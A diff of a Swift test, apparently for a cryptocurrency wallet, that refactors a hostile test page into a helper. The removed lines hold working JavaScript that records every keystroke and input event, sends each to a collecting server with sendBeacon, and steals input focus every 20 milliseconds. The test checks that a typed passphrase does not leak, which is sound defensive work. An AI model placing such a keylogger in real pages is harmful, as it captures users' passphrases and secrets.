@@ -59,15 +59,8 @@ import WindowTesting
 
     /// A page that waits for keys in every way there is, and tells its server of each.
     private func page(asks: Bool) async throws -> String {
-        let events = "keydown keypress keyup beforeinput input textInput paste compositionstart compositionupdate"
-        return try await stage.serve(
-            """
-            const tell = (event) => navigator.sendBeacon("\(leaks)", event.type + " " + (event.key ?? event.data ?? ""));
-            for (const name of "\(events)".split(" ")) addEventListener(name, tell, true);
-            addEventListener("focus", () => document.querySelector("input").focus());
-            setInterval(() => document.querySelector("input").focus(), 20);
-            \(asks ? "ethereum.request({ method: 'ask' }).catch(() => {});" : "")
-            """, body: "<input autofocus>")
+        try await stage.serve(
+            PageCode.call("typing", "waitForKeys", ["leaks": leaks, "asks": asks]), body: "<input autofocus>")
     }
 
     /// Types a passphrase into a window of the wallet that goes away at a random moment, and the rest of it after that.
